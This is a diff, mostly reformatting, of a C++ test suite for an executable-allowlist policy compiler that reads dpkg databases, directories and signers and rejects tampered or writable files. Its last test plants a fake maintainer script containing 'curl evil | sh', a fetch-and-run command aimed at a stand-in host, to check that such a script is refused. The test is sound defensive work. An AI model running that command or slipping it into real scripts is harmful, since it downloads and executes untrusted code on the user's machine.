@@ -58,7 +58,9 @@ struct FakeDpkg {
     tampered = files + "/usr/bin/tampered";
     gone_bin = files + "/usr/bin/gone";
     const std::string bin_body = "#!/bin/sh\necho good\n";
-    const std::string lib_body = "\x7f" "ELF fake library";
+    const std::string lib_body =
+        "\x7f"
+        "ELF fake library";
     const std::string doc_body = "documentation\n";
     const std::string tampered_body = "#!/bin/sh\necho original\n";
     testing::write_text(good_bin, bin_body, 0755);
@@ -72,17 +74,18 @@ struct FakeDpkg {
     testing::write_text(conffile, conf_body, 0755);
     testing::write_text(admindir + "/status",
                         "Package: good\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n"
-                        "Conffiles:\n " + conffile + " " + md5_hex(conf_body) + "\n /etc/gone.conf " +
-                            std::string(32, '0') + " obsolete\nDescription: good\n more text\n\n"
-                        "Package: gone\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 1\n");
+                        "Conffiles:\n " +
+                            conffile + " " + md5_hex(conf_body) + "\n /etc/gone.conf " + std::string(32, '0') +
+                            " obsolete\nDescription: good\n more text\n\n"
+                            "Package: gone\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 1\n");
     auto rel = [](const std::string& p) { return p.substr(1); };
-    testing::write_text(admindir + "/info/good.list", "/.\n" + files + "\n" + files + "/usr\n" + files +
-                                                          "/usr/bin\n" + good_bin + "\n" + good_lib + "\n" + doc +
-                                                          "\n" + tampered + "\n" + conffile + "\n");
-    testing::write_text(admindir + "/info/good.md5sums",
-                        md5_hex(bin_body) + "  " + rel(good_bin) + "\n" + md5_hex(lib_body) + "  " + rel(good_lib) +
-                            "\n" + md5_hex(doc_body) + "  " + rel(doc) + "\n" + md5_hex(tampered_body) + "  " +
-                            rel(tampered) + "\n");
+    testing::write_text(admindir + "/info/good.list", "/.\n" + files + "\n" + files + "/usr\n" + files + "/usr/bin\n" +
+                                                          good_bin + "\n" + good_lib + "\n" + doc + "\n" + tampered +
+                                                          "\n" + conffile + "\n");
+    testing::write_text(admindir + "/info/good.md5sums", md5_hex(bin_body) + "  " + rel(good_bin) + "\n" +
+                                                             md5_hex(lib_body) + "  " + rel(good_lib) + "\n" +
+                                                             md5_hex(doc_body) + "  " + rel(doc) + "\n" +
+                                                             md5_hex(tampered_body) + "  " + rel(tampered) + "\n");
     testing::write_text(admindir + "/info/gone.list", gone_bin + "\n");
   }
 
@@ -130,8 +133,9 @@ Result<CompileSummary> compile(const std::string& manifest, const std::string& o
 }  // namespace
 
 TEST_SUITE("policy.compiler") {
-  TEST_CASE("done when: dpkg, a bin dir, a pinned file and a signer, denying a hash and /tmp/, compile signed and "
-            "verify") {
+  TEST_CASE(
+      "done when: dpkg, a bin dir, a pinned file and a signer, denying a hash and /tmp/, compile signed and "
+      "verify") {
     testing::TempDir dir;
     FakeDpkg dpkg(dir.path());
     Keys signing(dir, "signing");
@@ -147,18 +151,24 @@ TEST_SUITE("policy.compiler") {
                         "name: done-when\n"
                         "allow:\n"
                         "  - package_manager: dpkg\n"
-                        "  - dir: " + dir.file("local/bin") + "\n" + kWritable +
-                        "  - file: " + dir.file("pinned") + "\n"
-                        "    label: pinned\n" + kWritable +
-                        "  - signer: release.pub\n"
-                        "    label: release\n"
-                        "deny:\n"
-                        "  - sha256: " + miner + "\n"
-                        "    label: known miner\n"
-                        "  - path_prefix: /tmp\n");
+                        "  - dir: " +
+                            dir.file("local/bin") + "\n" + kWritable + "  - file: " + dir.file("pinned") +
+                            "\n"
+                            "    label: pinned\n" +
+                            kWritable +
+                            "  - signer: release.pub\n"
+                            "    label: release\n"
+                            "deny:\n"
+                            "  - sha256: " +
+                            miner +
+                            "\n"
+                            "    label: known miner\n"
+                            "  - path_prefix: /tmp\n");
     const std::string db = dir.file("policy.db");
-    CompileOptions o{.manifest_path = dir.file("policy.yaml"), .output_path = db,
-                     .signing_key_path = signing.key_path, .dpkg_admindir = dpkg.admindir};
+    CompileOptions o{.manifest_path = dir.file("policy.yaml"),
+                     .output_path = db,
+                     .signing_key_path = signing.key_path,
+                     .dpkg_admindir = dpkg.admindir};
     auto s = compile_policy(o);
     REQUIRE_MESSAGE(s, s.error().message());
     CHECK(s->generation == 1);
@@ -180,7 +190,7 @@ TEST_SUITE("policy.compiler") {
     CHECK(good->source.file == dir.file("policy.yaml"));
     CHECK(good->source.line == 4);
     CHECK(rule_for(*store, sha_hex(dpkg.good_lib)));
-    CHECK(rule_for(*store, sha_hex(dpkg.conffile)));  // verified against status' Conffiles md5
+    CHECK(rule_for(*store, sha_hex(dpkg.conffile)));        // verified against status' Conffiles md5
     CHECK_FALSE(rule_for(*store, sha_hex(dpkg.tampered)));  // md5 mismatch: not trusted
     CHECK_FALSE(rule_for(*store, sha_hex(dpkg.doc)));       // not an executable
     CHECK_FALSE(rule_for(*store, sha_hex(dpkg.gone_bin)));  // package not installed
@@ -220,15 +230,21 @@ TEST_SUITE("policy.compiler") {
                         "allow:\n"
                         "  - package_manager: dpkg\n"
                         "    packages: [coreutils, bash]\n"
-                        "  - dir: " + dir.file("local/bin") + "\n"
-                        "  - file: " + dir.file("pinned") + "\n"
-                        "  - signer: signing.pub\n"
-                        "deny:\n"
-                        "  - sha256: " + std::string(64, 'd') + "\n"
-                        "  - path_prefix: /tmp/\n");
+                        "  - dir: " +
+                            dir.file("local/bin") +
+                            "\n"
+                            "  - file: " +
+                            dir.file("pinned") +
+                            "\n"
+                            "  - signer: signing.pub\n"
+                            "deny:\n"
+                            "  - sha256: " +
+                            std::string(64, 'd') +
+                            "\n"
+                            "  - path_prefix: /tmp/\n");
     const std::string db = dir.file("policy.db");
-    auto s = compile_policy({.manifest_path = dir.file("policy.yaml"), .output_path = db,
-                             .signing_key_path = signing.key_path});
+    auto s = compile_policy(
+        {.manifest_path = dir.file("policy.yaml"), .output_path = db, .signing_key_path = signing.key_path});
     REQUIRE_MESSAGE(s, s.error().message());
     CHECK(s->modified_package_files.empty());
     auto store = open_db(db);
@@ -320,8 +336,7 @@ TEST_SUITE("policy.compiler") {
     CHECK(testing::read_text(db) == before);
 
     // An unreadable signing key.
-    CompileOptions o{.manifest_path = dir.file("m.yaml"), .output_path = db,
-                     .signing_key_path = dir.file("no.key")};
+    CompileOptions o{.manifest_path = dir.file("m.yaml"), .output_path = db, .signing_key_path = dir.file("no.key")};
     CHECK_FALSE(compile_policy(o));
     CHECK(testing::read_text(db) == before);
 
@@ -339,11 +354,14 @@ TEST_SUITE("policy.compiler") {
     testing::write_text(dir.file("m.yaml"),
                         "version: 1\n"
                         "allow:\n"
-                        "  - dir: " + dir.file("nodir") + "\n"
-                        "  - signer: missing.pub\n"
-                        "  - package_manager: dpkg\n"
-                        "    packages: [good, absent]\n"
-                        "  - file: " + dir.file("fifo") + "\n");
+                        "  - dir: " +
+                            dir.file("nodir") +
+                            "\n"
+                            "  - signer: missing.pub\n"
+                            "  - package_manager: dpkg\n"
+                            "    packages: [good, absent]\n"
+                            "  - file: " +
+                            dir.file("fifo") + "\n");
     REQUIRE(::mkfifo(dir.file("fifo").c_str(), 0644) == 0);
     auto s = compile(dir.file("m.yaml"), dir.file("p.db"), dpkg.admindir);
     REQUIRE_FALSE(s);
@@ -365,7 +383,10 @@ TEST_SUITE("policy.compiler") {
     mkdirs(dir.file("t/sub/deeper"));
     testing::write_text(dir.file("t/exe"), "#!/bin/sh\n", 0755);
     testing::write_text(dir.file("t/script-noexec"), "#!/bin/sh\necho x\n", 0644);
-    testing::write_text(dir.file("t/elf-noexec"), "\x7f" "ELFxx", 0644);
+    testing::write_text(dir.file("t/elf-noexec"),
+                        "\x7f"
+                        "ELFxx",
+                        0644);
     testing::write_text(dir.file("t/libx.so.2"), "not really elf", 0644);
     testing::write_text(dir.file("t/readme"), "text", 0644);
     testing::write_text(dir.file("t/keep.bak"), "#!/bin/sh\n#bak\n", 0755);
@@ -405,9 +426,9 @@ TEST_SUITE("policy.compiler") {
 
     // An allow of usr (every file) around an allow of usr/bin (ELF only):
     // the outer walk must not stop at the inner entry's root.
-    testing::write_text(dir.file("allow.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("usr") +
-                                                     "\n    match: all\n" + kWritable + "  - dir: " +
-                                                     dir.file("usr/bin") + "\n    match: elf\n" + kWritable);
+    testing::write_text(dir.file("allow.yaml"),
+                        "version: 1\nallow:\n  - dir: " + dir.file("usr") + "\n    match: all\n" + kWritable +
+                            "  - dir: " + dir.file("usr/bin") + "\n    match: elf\n" + kWritable);
     auto both = compile(dir.file("allow.yaml"), dir.file("allow.db"));
     REQUIRE_MESSAGE(both, both.error().message());
     CHECK(rule_for(*open_db(dir.file("allow.db")), script_hex).has_value());
@@ -415,8 +436,8 @@ TEST_SUITE("policy.compiler") {
     // A deny of usr around an allow of usr/bin: the script is both allowed and
     // denied, which is a conflict, not a silent allow.
     testing::write_text(dir.file("conflict.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("usr/bin") +
-                                                        "\n    match: all\n" + kWritable + "deny:\n  - dir: " +
-                                                        dir.file("usr") + "\n    match: all\n");
+                                                       "\n    match: all\n" + kWritable +
+                                                       "deny:\n  - dir: " + dir.file("usr") + "\n    match: all\n");
     auto conflict = compile(dir.file("conflict.yaml"), dir.file("conflict.db"));
     REQUIRE_FALSE(conflict);
     CHECK(conflict.error().message().find(script_hex) != std::string::npos);
@@ -431,16 +452,18 @@ TEST_SUITE("policy.compiler") {
                         "    expires: 2001-01-01\n"
                         "  - path: /opt/new/tool\n"
                         "    expires: 2999-01-01T00:00:00Z\n"
-                        "  - file: " + dir.file("absent") + "\n"
-                        "    optional: true\n");
+                        "  - file: " +
+                            dir.file("absent") +
+                            "\n"
+                            "    optional: true\n");
     auto s = compile_policy({.manifest_path = dir.file("m.yaml"), .dry_run = true});
     REQUIRE_MESSAGE(s, s.error().message());
     CHECK(s->expired_entries == 1);
     CHECK(s->rules.path_allow == 1);
     REQUIRE(s->warnings.size() == 2);
     CHECK(s->warnings[0] == dir.file("m.yaml") + ":3:5: path entry expired on 2001-01-01; skipped");
-    CHECK(s->warnings[1] == dir.file("m.yaml") + ":7:5: optional file " + dir.file("absent") +
-                                " does not exist; skipped");
+    CHECK(s->warnings[1] ==
+          dir.file("m.yaml") + ":7:5: optional file " + dir.file("absent") + " does not exist; skipped");
     CHECK(s->dry_run);
     CHECK(s->content_digest.size() == 64);
     CHECK(s->to_json()["expired_entries"] == 1);
@@ -452,14 +475,18 @@ TEST_SUITE("policy.compiler") {
     const std::string hex = sha_hex(dir.file("tool"));
     testing::write_text(dir.file("approvals.yaml"),
                         "allow:\n"
-                        "  - sha256: " + hex + "\n"
-                        "    origin: /opt/app/bin/tool\n"
-                        "    label: tool\n"
-                        "    ticket: OPS-12\n"
-                        "    approved_by: alice\n"
-                        "    approved_at: 2026-12-01T10:00:00Z\n");
-    testing::write_text(dir.file("m.yaml"), "version: 1\ninclude: [approvals.yaml, approvals.d/*.yaml]\nallow:\n"
-                                            "  - file: " + dir.file("tool") + "\n" + kWritable);
+                        "  - sha256: " +
+                            hex +
+                            "\n"
+                            "    origin: /opt/app/bin/tool\n"
+                            "    label: tool\n"
+                            "    ticket: OPS-12\n"
+                            "    approved_by: alice\n"
+                            "    approved_at: 2026-12-01T10:00:00Z\n");
+    testing::write_text(dir.file("m.yaml"),
+                        "version: 1\ninclude: [approvals.yaml, approvals.d/*.yaml]\nallow:\n"
+                        "  - file: " +
+                            dir.file("tool") + "\n" + kWritable);
     auto s = compile(dir.file("m.yaml"), dir.file("p.db"));
     REQUIRE_MESSAGE(s, s.error().message());
     CHECK(s->rules.hash_allow == 1);
@@ -529,8 +556,10 @@ TEST_SUITE("policy.compiler") {
     testing::write_text(dir.file("t/a/b/c/x"), "#!/bin/sh\n", 0755);
     testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("t") + "\n" + kWritable);
     std::vector<CompileProgress> reports;
-    CompileOptions o{.manifest_path = dir.file("m.yaml"), .jobs = 8, .dry_run = true,
-                     .progress = [&](const CompileProgress& p) { reports.push_back(p); }};
+    CompileOptions o{
+        .manifest_path = dir.file("m.yaml"), .jobs = 8, .dry_run = true, .progress = [&](const CompileProgress& p) {
+          reports.push_back(p);
+        }};
     auto a = compile_policy(o);
     REQUIRE_MESSAGE(a, a.error().message());
     REQUIRE_FALSE(reports.empty());
@@ -571,8 +600,8 @@ TEST_SUITE("policy.compiler") {
     testing::write_text(dir.file("drop/tool"), "#!/bin/sh\necho dropped\n", 0755);
     testing::write_text(dir.file("pinned"), "#!/bin/sh\necho pinned\n", 0755);
     const std::string hex = sha_hex(dir.file("drop/tool"));
-    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("drop") + "\n  - file: " +
-                                                dir.file("pinned") + "\n");
+    testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - dir: " + dir.file("drop") +
+                                                "\n  - file: " + dir.file("pinned") + "\n");
     auto s = compile(dir.file("m.yaml"), dir.file("p.db"));
     REQUIRE_MESSAGE(s, s.error().message());  // listed, not an error
     CHECK(s->rules.hash_allow == 0);
@@ -638,8 +667,10 @@ TEST_SUITE("policy.compiler") {
     testing::TempDir dir;  // world-writable /tmp above the fake package files
     FakeDpkg dpkg(dir.path());
     testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - package_manager: dpkg\n    packages: [good]\n");
-    CompileOptions o{.manifest_path = dir.file("m.yaml"), .output_path = dir.file("p.db"),
-                     .dpkg_admindir = dpkg.admindir, .strict = true};
+    CompileOptions o{.manifest_path = dir.file("m.yaml"),
+                     .output_path = dir.file("p.db"),
+                     .dpkg_admindir = dpkg.admindir,
+                     .strict = true};
     auto s = compile_policy(o);
     REQUIRE_MESSAGE(s, s.error().message());
     CHECK(s->untrusted_writable_total == 0);
@@ -647,8 +678,9 @@ TEST_SUITE("policy.compiler") {
     CHECK_FALSE(rule_for(*open_db(dir.file("p.db")), sha_hex(dpkg.tampered)));  // its md5 still decides
   }
 
-  TEST_CASE("read_dpkg_files: a package counts from unpacked to installed whatever its want (a hold, a failed "
-            "postinst); a removed one leaves only its maintainer scripts, a half-installed one nothing") {
+  TEST_CASE(
+      "read_dpkg_files: a package counts from unpacked to installed whatever its want (a hold, a failed "
+      "postinst); a removed one leaves only its maintainer scripts, a half-installed one nothing") {
     testing::TempDir dir;
     const std::string admin = dir.file("dpkg");
     mkdirs(admin + "/info");
@@ -693,14 +725,15 @@ TEST_SUITE("policy.compiler") {
     CHECK(named->scripts.size() == 2);
   }
 
-  TEST_CASE("dpkg maintainer scripts are not exempt: with no md5 to check, a writable tree leaves them untrusted, "
-            "and --strict cannot be answered with allow_writable") {
+  TEST_CASE(
+      "dpkg maintainer scripts are not exempt: with no md5 to check, a writable tree leaves them untrusted, "
+      "and --strict cannot be answered with allow_writable") {
     testing::TempDir dir;  // world-writable /tmp above the fake dpkg database
     FakeDpkg dpkg(dir.path());
     const std::string postinst = dpkg.add_info("good.postinst", "#!/bin/sh\necho configured\n");
     testing::write_text(dir.file("m.yaml"), "version: 1\nallow:\n  - package_manager: dpkg\n    packages: [good]\n");
-    CompileOptions o{.manifest_path = dir.file("m.yaml"), .output_path = dir.file("p.db"),
-                     .dpkg_admindir = dpkg.admindir};
+    CompileOptions o{
+        .manifest_path = dir.file("m.yaml"), .output_path = dir.file("p.db"), .dpkg_admindir = dpkg.admindir};
     auto s = compile_policy(o);
     REQUIRE_MESSAGE(s, s.error().message());
     REQUIRE(s->untrusted_writable_total == 1);
@@ -712,9 +745,9 @@ TEST_SUITE("policy.compiler") {
     o.strict = true;
     auto strict = compile_policy(o);
     REQUIRE_FALSE(strict);
-    CHECK_MESSAGE(strict.error().message().starts_with(dir.file("m.yaml") + ":3:5: " + postinst +
-                                                       " is not trusted (--strict): "),
-                  strict.error().message());
+    CHECK_MESSAGE(
+        strict.error().message().starts_with(dir.file("m.yaml") + ":3:5: " + postinst + " is not trusted (--strict): "),
+        strict.error().message());
     CHECK(strict.error().message().ends_with(
         "; a package_manager entry cannot opt in: make it root-owned and not writable"));
   }
@@ -811,7 +844,8 @@ TEST_SUITE("policy.compiler.root") {
     // allow_writable trusts them, and lists them.
     testing::write_text(m, "version: 1\nallow:\n  - dir: " + root.file("bin") +
                                "\n    allow_writable: true\n    reason: vendor updater runs as nobody (OPS-7)\n"
-                               "  - dir: " + root.file("drop") + "\n");
+                               "  - dir: " +
+                               root.file("drop") + "\n");
     auto opted = compile(m, db);
     REQUIRE_MESSAGE(opted, opted.error().message());
     CHECK(opted->writable_allowed_total == 3);
@@ -825,8 +859,8 @@ TEST_SUITE("policy.compiler.root") {
     auto lax = testing::run({tool, "compile", m, "-o", root.file("cli.db")});
     CHECK_MESSAGE(lax.exit_code == 0, lax.err);
     CHECK(lax.out.find("NOT trusted, an unprivileged user could have placed or changed them: 1") != std::string::npos);
-    CHECK(lax.out.find("  " + root.file("drop/tool") + ": " + root.file("drop") + " is group- or world-writable (" +
-                       m + ":6:5)") != std::string::npos);
+    CHECK(lax.out.find("  " + root.file("drop/tool") + ": " + root.file("drop") + " is group- or world-writable (" + m +
+                       ":6:5)") != std::string::npos);
     CHECK(lax.out.find("trusted although writable (allow_writable): 3") != std::string::npos);
     auto strict = testing::run({tool, "compile", m, "-o", db, "--strict"});
     CHECK(strict.exit_code == 4);
@@ -844,13 +878,17 @@ TEST_SUITE("policy.compiler.root") {
     CHECK(j["writable"]["allowed"] == 3);
   }
 
-  TEST_CASE("dpkg maintainer scripts: a trusted package's scripts in info/ are allowed by hash when root-owned; "
-            "a script dropped by another user, a symlink, another package's or a writable info/ are not") {
+  TEST_CASE(
+      "dpkg maintainer scripts: a trusted package's scripts in info/ are allowed by hash when root-owned; "
+      "a script dropped by another user, a symlink, another package's or a writable info/ are not") {
     REQUIRE(::geteuid() == 0);
     RootOwnedDir root;
     FakeDpkg dpkg(root.path);
     const std::string postinst = dpkg.add_info("good.postinst", "#!/bin/sh\necho configured\n");
-    const std::string preinst = dpkg.add_info("good.preinst", "\x7f" "ELF a binary maintainer script", 0644);
+    const std::string preinst = dpkg.add_info("good.preinst",
+                                              "\x7f"
+                                              "ELF a binary maintainer script",
+                                              0644);
     // Another user's file under a trusted package's script name.
     const std::string dropped = dpkg.add_info("good.prerm", "#!/bin/sh\ncurl evil | sh\n");
     REQUIRE(::chown(dropped.c_str(), 65534, 65534) == 0);
